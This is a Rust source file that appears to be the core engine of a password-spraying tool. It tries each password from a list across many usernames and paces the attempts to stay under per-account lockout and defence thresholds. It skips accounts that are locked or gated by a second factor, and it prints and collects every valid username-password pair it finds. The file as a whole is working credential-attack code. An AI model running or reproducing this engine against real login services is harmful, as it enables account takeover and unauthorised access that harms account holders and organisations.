// spray.rs - Password Spray Engine
// Purpose: Test each password from a curated list across every account not
//          yet resolved, staying under per-account defense thresholds

use std::collections::HashSet;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use colored::*;
use serde::Serialize;

use crate::attempt::{CycleOutcome, attempt_candidate};
use crate::budget::{Budget, BudgetTracker};
use crate::challenge::ChallengeHandler;
use crate::client::LoginTransport;
use crate::errors::AttackError;
use crate::metrics::AttackMetrics;

const SKIP_POLL_INTERVAL: Duration = Duration::from_millis(10);

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct SprayCredential {
    pub username: String,
    pub password: String,
}

/// Why the spray run ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SprayStop {
    PasswordListExhausted,
    /// Every username is in the skip set (compromised, locked, or MFA-gated).
    AllAccountsResolved,
    BudgetExhausted,
    Interrupted,
}

#[derive(Debug)]
pub struct SprayOutcome {
    pub credentials: Vec<SprayCredential>,
    pub stop: SprayStop,
}

pub struct SprayEngine {
    budget: BudgetTracker,
    challenge: ChallengeHandler,
    delay: Duration,
    interrupt: Arc<AtomicBool>,
}

impl SprayEngine {
    pub fn new(
        budget: Budget,
        delay: Duration,
        group_seed: Option<String>,
        interrupt: Arc<AtomicBool>,
    ) -> Self {
        Self {
            budget: BudgetTracker::new(budget),
            challenge: ChallengeHandler::new(group_seed),
            delay,
            interrupt,
        }
    }

    /// Sprays `passwords` over `usernames`. Metrics are finalized on every
    /// exit path and always carry the account totals, even when the run
    /// aborts on a protocol violation.
    pub fn run<T: LoginTransport>(
        &mut self,
        transport: &mut T,
        usernames: &[String],
        passwords: &[String],
        metrics: &mut AttackMetrics,
    ) -> Result<SprayOutcome, AttackError> {
        metrics.start();
        let mut credentials = Vec::new();
        let result = self.run_inner(transport, usernames, passwords, metrics, &mut credentials);
        metrics.set_account_stats(credentials.len(), usernames.len());
        metrics.stop();
        result.map(|stop| SprayOutcome { credentials, stop })
    }

    fn run_inner<T: LoginTransport>(
        &mut self,
        transport: &mut T,
        usernames: &[String],
        passwords: &[String],
        metrics: &mut AttackMetrics,
        credentials: &mut Vec<SprayCredential>,
    ) -> Result<SprayStop, AttackError> {
        println!(
            "{}",
            format!(
                "[*] Starting password spray on {} users with {} passwords",
                usernames.len(),
                passwords.len()
            )
            .cyan()
        );
        let started = Instant::now();
        // Once a username enters the skip set it is never retried this run.
        let mut skip_set: HashSet<&str> = HashSet::new();

        for (password_index, password) in passwords.iter().enumerate() {
            if skip_set.len() >= usernames.len() {
                return Ok(SprayStop::AllAccountsResolved);
            }
            println!(
                "   Testing password '{}' ({}/{})",
                password,
                password_index + 1,
                passwords.len()
            );

            for username in usernames {
                if skip_set.contains(username.as_str()) {
                    continue;
                }
                if self.interrupt.load(Ordering::Relaxed) {
                    println!("{}", "[!] Interrupted, flushing partial results".yellow());
                    return Ok(SprayStop::Interrupted);
                }
                if self.budget.should_stop(metrics.attempts(), started.elapsed()) {
                    println!(
                        "{}",
                        format!("[!] Stopping: {} exhausted", self.budget.exhausted_limits())
                            .yellow()
                    );
                    return Ok(SprayStop::BudgetExhausted);
                }
                // WorstOf with one limit out: skip the rest of this password
                // row without requests while still polling the other limit.
                if self.budget.skip_attempt(metrics.attempts(), started.elapsed()) {
                    std::thread::sleep(SKIP_POLL_INTERVAL);
                    continue;
                }

                let outcome = attempt_candidate(
                    transport,
                    &self.challenge,
                    &mut self.budget,
                    metrics,
                    &self.interrupt,
                    started,
                    username,
                    password,
                )?;

                match outcome {
                    CycleOutcome::Success => {
                        println!(
                            "{}",
                            format!("[+] FOUND: {username}:{password}").green().bold()
                        );
                        skip_set.insert(username.as_str());
                        credentials.push(SprayCredential {
                            username: username.clone(),
                            password: password.clone(),
                        });
                    }
                    CycleOutcome::Failure => {}
                    CycleOutcome::Locked => {
                        println!(
                            "{}",
                            format!("[!] '{username}' locked, skipping for the rest of the run")
                                .yellow()
                        );
                        skip_set.insert(username.as_str());
                    }
                    CycleOutcome::MfaBlocked => {
                        println!(
                            "{}",
                            format!("[!] '{username}' gated by second factor, skipping").yellow()
                        );
                        skip_set.insert(username.as_str());
                    }
                    // Abandoned mid-retry; the loop top resumes polling the
                    // remaining limit without the inter-attempt delay.
                    CycleOutcome::BudgetSkip => continue,
                    CycleOutcome::BudgetStop => return Ok(SprayStop::BudgetExhausted),
                    CycleOutcome::Interrupted => return Ok(SprayStop::Interrupted),
                }

                if !self.delay.is_zero() {
                    std::thread::sleep(self.delay);
                }
            }
        }

        if skip_set.len() >= usernames.len() {
            Ok(SprayStop::AllAccountsResolved)
        } else {
            Ok(SprayStop::PasswordListExhausted)
        }
    }
}
